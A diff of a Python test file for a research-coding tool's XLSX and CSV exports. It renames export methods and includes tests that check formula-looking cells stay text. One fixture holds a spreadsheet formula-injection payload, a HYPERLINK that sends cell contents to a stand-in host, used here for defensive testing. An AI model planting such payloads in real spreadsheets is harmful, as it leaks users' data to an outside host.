@@ -19,7 +19,7 @@ def _rows(sheet: openpyxl.worksheet.worksheet.Worksheet) -> list[dict[str, objec
 
 
 def test_workbook_sheets_and_content(project: Project, tmp_path: Path) -> None:
-    out = project.export_xlsx(tmp_path / "tables.xlsx")
+    out = project.exports.xlsx(tmp_path / "tables.xlsx")
     book = openpyxl.load_workbook(out)
     assert book.sheetnames == ["Segments", "Codebook", "Codes x documents",
                                "Codes x attributes", "Co-occurrence", "ESM answers"]
@@ -70,13 +70,13 @@ def test_workbook_sheets_and_content(project: Project, tmp_path: Path) -> None:
 
 
 def test_same_project_gives_identical_workbook(project: Project, tmp_path: Path) -> None:
-    a = project.export_xlsx(tmp_path / "a.xlsx").read_bytes()
-    b = project.export_xlsx(tmp_path / "b.xlsx").read_bytes()
+    a = project.exports.xlsx(tmp_path / "a.xlsx").read_bytes()
+    b = project.exports.xlsx(tmp_path / "b.xlsx").read_bytes()
     assert a == b
 
 
 def test_csv_files(project: Project, tmp_path: Path) -> None:
-    written = project.export_csv(tmp_path / "csv")
+    written = project.exports.csv(tmp_path / "csv")
     assert sorted(p.name for p in written) == sorted(
         ["segments.csv", "codebook.csv", "code_by_document.csv", "code_by_attribute.csv",
          "cooccurrence.csv", "esm_answers.csv"])
@@ -85,18 +85,18 @@ def test_csv_files(project: Project, tmp_path: Path) -> None:
     with open(tmp_path / "csv" / "segments.csv", encoding="utf-8-sig", newline="") as f:
         rows = list(csv.DictReader(f))
     assert {r["Quote"] for r in rows} >= {"🙂", "de kantbank"}
-    again = project.export_csv(tmp_path / "csv2")
+    again = project.exports.csv(tmp_path / "csv2")
     assert [p.read_bytes() for p in written] == [p.read_bytes() for p in again]
 
 
 def test_bad_targets_are_refused(project: Project, tmp_path: Path) -> None:
     with pytest.raises(BadInput, match="must end in .xlsx"):
-        project.export_xlsx(tmp_path / "a.csv")
+        project.exports.xlsx(tmp_path / "a.csv")
     (tmp_path / "file").write_text("x")
     with pytest.raises(BadInput, match="is a file"):
-        project.export_csv(tmp_path / "file")
+        project.exports.csv(tmp_path / "file")
     with pytest.raises(BadInput, match="does not exist"):
-        project.export_csv(tmp_path / "no" / "such" / "dir")
+        project.exports.csv(tmp_path / "no" / "such" / "dir")
 
 
 HOSTILE = {"site": '=HYPERLINK("http://evil.example/?"&A1,"klik")', "title": "+SUM(1,2)",
@@ -111,14 +111,14 @@ def _hostile(tmp_path: Path) -> Project:
     project.add_note(site=HOSTILE["site"], title=HOSTILE["title"], text=text)
     project.add_code(HOSTILE["code"])
     coding = project.code_text(1, 0, len(HOSTILE["quote"]), HOSTILE["code"])
-    project.set_coding_memo(coding.id, HOSTILE["memo"])
+    project.memos.set_coding_memo(coding.id, HOSTILE["memo"])
     project.code_text(1, 0, len(text), HOSTILE["code"])  # the whole text, with \x0b in it
     return project
 
 
 def test_xlsx_cells_that_look_like_formulas_stay_text(tmp_path: Path) -> None:
     with _hostile(tmp_path) as project:
-        out = project.export_xlsx(tmp_path / "t.xlsx")
+        out = project.exports.xlsx(tmp_path / "t.xlsx")
     book = openpyxl.load_workbook(out)
     cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
@@ -135,7 +135,7 @@ def test_xlsx_cells_that_look_like_formulas_stay_text(tmp_path: Path) -> None:
 
 def test_csv_cells_that_look_like_formulas_are_escaped(tmp_path: Path) -> None:
     with _hostile(tmp_path) as project:
-        project.export_csv(tmp_path / "csv")
+        project.exports.csv(tmp_path / "csv")
     for path in (tmp_path / "csv").glob("*.csv"):
         with open(path, encoding="utf-8-sig", newline="") as f:
             cells = [c for row in csv.reader(f) for c in row]
@@ -151,7 +151,7 @@ def test_csv_cells_that_look_like_formulas_are_escaped(tmp_path: Path) -> None:
 
 def test_team_workbooks_write_text_as_text(tmp_path: Path) -> None:
     with _hostile(tmp_path) as project:
-        out = project.export_blind_xlsx(HOSTILE["coder"], tmp_path / "blind.xlsx")
+        out = project.agreement.export_blind_xlsx(HOSTILE["coder"], tmp_path / "blind.xlsx")
     book = openpyxl.load_workbook(out)
     cells = [c for row in book.active.iter_rows() for c in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
